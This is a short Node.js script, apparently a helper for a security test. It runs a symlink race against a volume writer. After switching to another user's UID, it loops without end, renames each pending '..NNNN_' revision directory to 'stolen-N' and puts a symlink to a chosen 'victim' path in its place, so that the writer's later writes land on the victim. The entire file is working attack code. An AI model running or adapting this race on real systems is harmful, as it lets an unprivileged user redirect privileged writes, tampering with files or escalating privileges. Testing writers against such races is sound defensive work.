/**
 * Renames each pending revision of a volume and puts a link in its place, as another user:
 * `renaming-process.mjs VOLUME VICTIM UID`. Prints a dot when it begins and one for each revision.
 */
import { lstatSync, readdirSync, readlinkSync, renameSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';

const [volume, victim, uid] = process.argv.slice(2);
process.setgroups([]);
process.setgid(Number(uid));
process.setuid(Number(uid));
process.stdout.write('.');

const published = () => {
  try {
    return readlinkSync(join(volume, '..data'));
  } catch {
    return undefined;
  }
};

for (let count = 0; ; count += 1) {
  for (const name of readdirSync(volume)) {
    if (!/^\.\.\d{4}_/.test(name) || name === published()) continue;
    try {
      if (!lstatSync(join(volume, name)).isDirectory()) continue;
      renameSync(join(volume, name), join(volume, `stolen-${count}`));
      symlinkSync(victim, join(volume, name));
      process.stdout.write('.');
    } catch {
      // The writer was quicker.
    }
  }
}
